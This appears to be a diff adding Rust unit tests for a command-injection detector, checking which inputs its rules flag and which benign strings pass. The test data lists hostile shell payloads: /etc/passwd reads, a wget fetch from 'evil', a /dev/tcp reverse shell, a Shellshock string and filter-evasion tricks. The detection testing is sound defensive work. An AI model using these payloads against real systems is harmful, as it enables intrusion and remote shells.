+    fn separators_and_commands() {
+        for v in [
+            "1; cat /etc/passwd",
+            "x|id",
+            "a && whoami",
+            "foo || uname -a",
+            "`id`",
+            "$(whoami)",
+            "x\nwget http://evil/x.sh",
+            "127.0.0.1; ping -c 3 10.0.0.1",
+            "cat /etc/passwd",
+            ";ps",
+            "x;sleep 10 #",
+            "& dir c:\\",
+            "| powershell -enc abc",
+            "x; /bin/sh -i",
+            "<(curl -s http://x/y)",
+            "python3.10 -c 'import os'",
+        ] {
+            assert_eq!(rule(v), Some("cmdi.shell"), "{v}");
+        }
+    }
+
+    #[test]
+    fn evasions() {
+        for v in [
+            ";c'a't /etc/hostname",
+            "; w\\ho\\am\\i",
+            ";cat${IFS}/etc/hostname",
+            "a;{cat,/etc/hosts}",
+            "c{a,oun}t /etc/hosts",
+            "\\ls",
+            "${PATH#x}",
+            "alias a=c${KK}url",
+            "cmd=whoami",
+            "d=/dev&&(sh)0>x",
+            "; /???/c?t /x",
+            "x;c$@at /etc/hosts",
+            "ti''me sh -c id",
+            "%COMSPEC% /c dir",
+            "x;sh$XX -c id",
+            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        ] {
+            assert!(rule(v).is_some(), "{v}");
+        }
+        assert_eq!(rule("() { :; }; /bin/bash -c id"), Some("cmdi.shellshock"));
+        assert!(rule("/etc/pa[s]swd").is_some());
+        assert_eq!(rule("x /etc/pa[s]swd"), Some("cmdi.glob"));
+        assert_eq!(
+            rule("for /f %i in ('whoami') do echo %i"),
+            Some("cmdi.windows")
+        );
+        assert_eq!(rule("IF EXIST C:\\x.txt (type x)"), Some("cmdi.windows"));
+    }
+
+    #[test]
+    fn benign_text() {
+        for v in [
+            "Tom & Jerry",
+            "rock | paper",
+            "R&D; sales",
+            "cat pictures",
+            "cat food",
+            "Meet at 10; bring snacks; more later",
+            "a hero; more than",
+            "hello; time he came",
+            "| col | col |\n|---|---|\n| a | b |",
+            "price: $5",
+            "100%",
+            "email me at a@b.com",
+            "{{user_name}}",
+            "1.2.3",
+            "https://example.com/webhook",
+            "O'Brien & sons",
+            "SH",
+            "sort=id",
+            "if foo==",
+            "If you want, call me",
+            "Python is great",
+            "The zip on my coat is stuck",
+            ";\"The quick brown fox\"",
+            "red;$5 each",
+            "$(document).ready(init)",
+            "query($id: ID!) { user(id: $id) { id name email } }",
+            "function() { return 1; }",
+            "curl/7.81.0",
+            "wget",
+            "See the .list(5) file.",
+            "IP supports a set of /proc interfaces to configure some global parameters.",
+            "Make e2fsck handle the case where /lost+found isn't a directory.",
+            "Runs as a helper (gcc host module) and more",
+            "base64",
+            "Find your solution here -> link",
+        ] {
+            assert_eq!(rule(v), None, "{v}");
+        }
+        assert!(run(Source::Path, "/bin/sh;id").is_empty());
+        assert!(run(Source::ArgName, "pwd").is_empty());
+        assert_eq!(rule("whoami"), Some("cmdi.shell"));
+        assert_eq!(rule("ansible-vault decrypt secret"), Some("cmdi.shell"));
+    }
+
+    #[test]
+    fn glob_matching() {
+        assert!(glob_match(b"c?t", b"cat", 0));
+        assert!(glob_match(b"[!q]at", b"cat", 0));
+        assert!(glob_match(b"[a-z]at", b"cat", 0));
+        assert!(!glob_match(b"c[!a]t", b"cat", 0));
+        assert!(glob_match(b"*mi", b"whoami", 0));
+        assert!(!glob_match(&[b'*'; 200], b"xy", 0));
+    }
+}
